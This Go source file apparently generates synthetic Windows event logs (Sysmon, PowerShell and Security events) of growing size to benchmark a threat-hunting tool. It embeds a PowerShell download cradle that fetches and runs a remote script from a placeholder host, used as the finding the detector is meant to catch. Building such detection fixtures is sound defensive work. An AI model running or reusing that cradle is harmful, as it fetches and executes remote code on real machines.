// Package growth writes logs that hold n of one thing and nothing else: n files that a browser
// saves, n starts under one process id, n hosts in one log. What hunt does with such a log must
// grow as n grows; tests and benchmarks hold work on n, 2n and 4n against each other.
package growth

import (
	"cmp"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"hunt/evtx/evtxtest"
)

// A Kind is one way in which evidence grows.
type Kind struct {
	Name  string
	About string // what there are n of
	fill  func(*tree, int)
}

// Kinds are all kinds, in a fixed order.
func Kinds() []Kind {
	return []Kind{
		{"downloads", "files that a browser saves within two minutes, the last of which is run", downloads},
		{"runs", "files that a browser saves within two minutes, each of which is run", runs},
		{"children", "programs that one browser process starts", children},
		{"one-pid", "programs that start under one process id and one ProcessGuid", onePID},
		{"starts", "starts of a program, each under its own process id, with a finding beside them", starts},
		{"long", "findings whose command lines have 30,000 characters", long},
		{"ancestors", "programs, each started by the one before", ancestors},
		{"network", "connections of one program that a browser started, to as many addresses", network},
		{"scripts", "script blocks with a download cradle, by one PowerShell process", scripts},
		{"parts", "parts of one script block", parts},
		{"logons", "sessions of one account on one host, with a browser's child in each", logons},
		{"hosts", "hosts with a finding each, in one log", hosts},
		{"quiet-hosts", "hosts in one log, one of which has a finding", quietHosts},
		{"channels", "channels of one host, with a finding beside them", channels},
		{"providers", "providers that write to one channel, with a finding beside them", providers},
		{"fields", "names of event data, with a finding beside them", fields},
		{"accounts", "accounts that log on to one host, with a finding beside them", accounts},
		{"days", "days on which something was logged, with a finding on the first", days},
		{"logs", "log files of one host with a finding each", logs},
		{"failures", "accounts, each with six failed logons within a minute", failures},
		{"guesses", "failed logons of one account, with a finding beside them", guesses},
		{"files", "small files that are no logs, beside one with a finding", files},
	}
}

// Write makes the logs in dir.
func (k Kind) Write(dir string, n int) error {
	t := &tree{dir: dir, logs: map[string]*evtxtest.Log{}}
	k.fill(t, n)
	for i := range t.small {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("note-%07d.txt", i)), []byte("a note"),
			0o600); err != nil {
			return err
		}
	}
	for name, l := range t.logs {
		b, err := l.Bytes()
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			return err
		}
	}
	return nil
}

// tree gathers the logs by file name.
type tree struct {
	dir  string
	logs map[string]*evtxtest.Log

	small int // files that are not logs
}

func (t *tree) add(file string, e evtxtest.Event) {
	if t.logs[file] == nil {
		t.logs[file] = &evtxtest.Log{}
	}
	t.logs[file].Add(e)
}

const (
	sysmonLog     = "Microsoft-Windows-Sysmon/Operational"
	powerShellLog = "Microsoft-Windows-PowerShell/Operational"
	computer      = "WS-01.corp.example"
	browser       = `C:\Program Files\Google\Chrome\Application\chrome.exe`
	shell         = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cradle        = `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/a.ps1')"`
	browserNumber = 1
)

var begin = time.Date(2026, 3, 12, 9, 0, 0, 0, time.UTC)

// spread is the time of event i of n within two minutes.
func spread(i, n int) time.Time {
	return begin.Add(time.Duration(i) * (2 * time.Minute) / time.Duration(n)).Truncate(time.Millisecond)
}

func guid(n int) evtxtest.Value {
	return evtxtest.GUID(fmt.Sprintf("{912F8223-0000-0000-0000-%012X}", n))
}

func number(name string, n int) evtxtest.Pair {
	return evtxtest.Pair{Name: name, Value: evtxtest.Uint32(uint32(n))} // #nosec G115 -- small
}

// subject is what a Sysmon event is about: process number process with its image, by default on
// computer and in its Sysmon log.
type subject struct {
	file, host string
	at         time.Time
	process    int
	image      string
}

// sysmon adds a Sysmon event.
func (t *tree) sysmon(id uint16, of subject, more ...evtxtest.Pair) {
	data := append([]evtxtest.Pair{
		evtxtest.Str("UtcTime", of.at.Format("2006-01-02 15:04:05.000")),
		{Name: "ProcessGuid", Value: guid(of.process)}, number("ProcessId", pid(of.process)),
		evtxtest.Str("Image", of.image), evtxtest.Str("User", `CORP\j.doe`)}, more...)
	t.add(cmp.Or(of.file, "sysmon.evtx"), evtxtest.Event{Provider: "Microsoft-Windows-Sysmon", Channel: sysmonLog,
		Computer: cmp.Or(of.host, computer), EventID: id, Version: 5, Time: of.at, Data: data})
}

func pid(n int) int { return 1000 + n%30000*4 }

// start is a Sysmon 1 of a process under another, by default of the session.
type start struct {
	subject
	line        string
	parent      int
	parentImage string
	logonID     uint64
}

func (t *tree) start(s start) {
	t.sysmon(1, s.subject, evtxtest.Str("CommandLine", s.line),
		evtxtest.Pair{Name: "LogonId", Value: evtxtest.Hex64(cmp.Or(s.logonID, session))},
		evtxtest.Pair{Name: "ParentProcessGuid", Value: guid(s.parent)}, number("ParentProcessId", pid(s.parent)),
		evtxtest.Str("ParentImage", s.parentImage), evtxtest.Str("ParentCommandLine", s.parentImage))
}

const session = 0x7030d

func (t *tree) theBrowser() {
	t.start(start{subject: subject{at: begin.Add(-time.Minute), process: browserNumber, image: browser},
		line: browser, parentImage: `C:\Windows\explorer.exe`})
}

func saved(i int) string { return fmt.Sprintf(`C:\Users\j.doe\Downloads\setup_%05d.exe`, i) }

func downloads(t *tree, n int) {
	t.theBrowser()
	for i := range n {
		t.sysmon(11, subject{at: spread(i, n), process: browserNumber, image: browser},
			evtxtest.Str("TargetFilename", saved(i)))
	}
	last := spread(n-1, n).Add(time.Millisecond)
	t.start(start{subject: subject{at: last, process: 100, image: saved(n - 1)},
		line: saved(n - 1), parentImage: `C:\Windows\explorer.exe`})
}

func runs(t *tree, n int) {
	t.theBrowser()
	for i := range n {
		at := spread(i, n)
		t.sysmon(11, subject{at: at, process: browserNumber, image: browser},
			evtxtest.Str("TargetFilename", saved(i)))
		t.start(start{subject: subject{at: at.Add(time.Millisecond), process: 100 + i, image: saved(i)},
			line: saved(i), parentImage: `C:\Windows\explorer.exe`})
	}
}

func children(t *tree, n int) {
	t.theBrowser()
	for i := range n {
		t.start(start{subject: subject{at: spread(i, n), process: 100 + i, image: shell},
			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser})
	}
}

func onePID(t *tree, n int) {
	t.theBrowser()
	for i := range n {
		t.start(start{subject: subject{at: spread(i, n), process: 100, image: shell},
			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser})
	}
}

func starts(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 99, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.start(start{subject: subject{at: spread(i, n), process: 100 + i, image: `C:\Windows\System32\svchost.exe`},
			line: fmt.Sprintf("svchost.exe -k group%d", i), parent: 2, parentImage: `C:\Windows\System32\services.exe`})
	}
}

// long has findings of which no two look alike, each in a run of its own: 30,000 characters are 60,000 bytes of the
// 64 KiB of a chunk.
func long(t *tree, n int) {
	for i := range n {
		t.start(start{subject: subject{at: begin.Add(time.Duration(i) * 2 * time.Hour), process: 100 + i, image: shell},
			line:   cradle + " # " + strings.Repeat(fmt.Sprintf("%07d ", i), 3700),
			parent: browserNumber, parentImage: browser})
	}
}

func ancestors(t *tree, n int) {
	t.theBrowser()
	for i := range n {
		parent, image := 99+i, shell
		if i == 0 {
			parent, image = browserNumber, browser
		}
		t.start(start{subject: subject{at: spread(i, n), process: 100 + i, image: shell},
			line: fmt.Sprintf("%s # %d", cradle, i), parent: parent, parentImage: image})
	}
}

func network(t *tree, n int) {
	t.theBrowser()
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.sysmon(3, subject{at: spread(i, n), process: 100, image: shell},
			evtxtest.Str("DestinationIp", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250)),
			evtxtest.Str("DestinationPort", "443"), evtxtest.Str("Protocol", "tcp"),
			evtxtest.Str("Initiated", "true"))
	}
}

// script adds a 4104.
func (t *tree) script(at time.Time, block, part, total int, text string) {
	t.add("powershell.evtx", evtxtest.Event{Provider: "Microsoft-Windows-PowerShell",
		Channel: powerShellLog, Computer: computer, EventID: 4104, Version: 1,
		Level: 3, Time: at, ProcessID: 1400, Data: []evtxtest.Pair{number("MessageNumber", part),
			number("MessageTotal", total), evtxtest.Str("ScriptBlockText", text),
			evtxtest.Str("ScriptBlockId", fmt.Sprintf("00000000-0000-0000-0000-%012d", block)),
			evtxtest.Str("Path", "")}})
}

func scripts(t *tree, n int) {
	t.theBrowser()
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: "powershell", parent: browserNumber, parentImage: browser})
	for i := range n {
		t.script(spread(i, n), i, 1, 1,
			fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')", i))
	}
}

func parts(t *tree, n int) {
	for i := range n {
		t.script(spread(i, n), 1, i+1, n,
			fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/%d.ps1')\n", i))
	}
}

func logons(t *tree, n int) {
	t.theBrowser()
	for i := range n {
		at, id := begin.Add(time.Duration(i)*time.Minute), uint64(0x10000+i)
		t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
			Channel: "Security", Computer: computer, EventID: 4624, Version: 2, Time: at,
			Data: []evtxtest.Pair{{Name: "TargetUserSid", Value: evtxtest.SID("S-1-5-21-1-2-3-1104")},
				evtxtest.Str("TargetUserName", "j.doe"), evtxtest.Str("TargetDomainName", "CORP"),
				{Name: "TargetLogonId", Value: evtxtest.Hex64(id)}, number("LogonType", 3),
				evtxtest.Str("IpAddress", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250))}})
		t.start(start{subject: subject{at: at.Add(time.Second), process: 100 + i, image: shell},
			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser, logonID: id})
	}
}

func hosts(t *tree, n int) {
	for i := range n {
		host := fmt.Sprintf("WS-%06d.corp.example", i)
		t.start(start{subject: subject{file: "forwarded.evtx", host: host, at: spread(i, n), process: 100,
			image: shell},
			line: cradle, parent: browserNumber, parentImage: browser})
	}
}

func channels(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("channels.evtx", vendor(fmt.Sprintf("Vendor-%d", i),
			fmt.Sprintf("Vendor-%d/Operational", i), computer, spread(i, n), "Text"))
	}
}

// quietHosts has events of process starts on one host alone: what the report says about the others is that they are
// there.
func quietHosts(t *tree, n int) {
	t.start(start{subject: subject{file: "forwarded.evtx", at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("forwarded.evtx", vendor("Vendor", "System", fmt.Sprintf("WS-%06d.corp.example", i),
			spread(i, n), "Text"))
	}
}

// vendor is an event that no rule asks for, with one field.
func vendor(provider, channel, host string, at time.Time, field string) evtxtest.Event {
	return evtxtest.Event{Provider: provider, Channel: channel, Computer: host, EventID: 1, Time: at,
		Data: []evtxtest.Pair{evtxtest.Str(field, "x")}}
}

func providers(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("providers.evtx", vendor(fmt.Sprintf("Vendor-%d", i), "Application", computer, spread(i, n), "Text"))
	}
}

func fields(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("fields.evtx", vendor("Vendor", "Application", computer, spread(i, n), fmt.Sprintf("Field%d", i)))
	}
}

func accounts(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
			Channel: "Security", Computer: computer, EventID: 4624, Version: 2, Time: spread(i, n),
			Data: []evtxtest.Pair{{Name: "TargetUserSid",
				Value: evtxtest.SID(fmt.Sprintf("S-1-5-21-1-2-3-%d", 2000+i))},
				evtxtest.Str("TargetUserName", fmt.Sprintf("user%06d", i)),
				evtxtest.Str("TargetDomainName", "CORP"), {Name: "TargetLogonId",
					Value: evtxtest.Hex64(uint64(0x10000 + i))}, number("LogonType", 3),
				evtxtest.Str("IpAddress", "198.51.100.7")}})
	}
}

func days(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("days.evtx", vendor("Vendor", "Application", computer, begin.AddDate(0, 0, -i), "Text"))
	}
}

func logs(t *tree, n int) {
	for i := range n {
		t.start(start{subject: subject{file: fmt.Sprintf("sysmon-%05d.evtx", i), at: spread(i, n),
			process: 100 + i, image: shell},
			line: fmt.Sprintf("%s # %d", cradle, i), parent: browserNumber, parentImage: browser})
	}
}

func failures(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		for k := range 6 {
			t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
				Channel: "Security", Computer: computer, EventID: 4625,
				Time: begin.Add(time.Duration(i)*time.Second + time.Duration(k)*time.Millisecond),
				Data: []evtxtest.Pair{evtxtest.Str("TargetUserName", fmt.Sprintf("user%06d", i)),
					evtxtest.Str("TargetDomainName", "CORP"), number("LogonType", 3),
					{Name: "Status", Value: evtxtest.Hex32(0xc000006d)},
					evtxtest.Str("IpAddress", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250))}})
		}
	}
}

func guesses(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	for i := range n {
		t.add("security.evtx", evtxtest.Event{Provider: "Microsoft-Windows-Security-Auditing",
			Channel: "Security", Computer: computer, EventID: 4625, Time: spread(i, n),
			Data: []evtxtest.Pair{evtxtest.Str("TargetUserName", "j.doe"),
				evtxtest.Str("TargetDomainName", "CORP"), number("LogonType", 3),
				{Name: "Status", Value: evtxtest.Hex32(0xc000006d)},
				evtxtest.Str("IpAddress", fmt.Sprintf("198.51.%d.%d", i/250%250, i%250))}})
	}
}

func files(t *tree, n int) {
	t.start(start{subject: subject{at: begin, process: 100, image: shell},
		line: cradle, parent: browserNumber, parentImage: browser})
	t.small = n
}
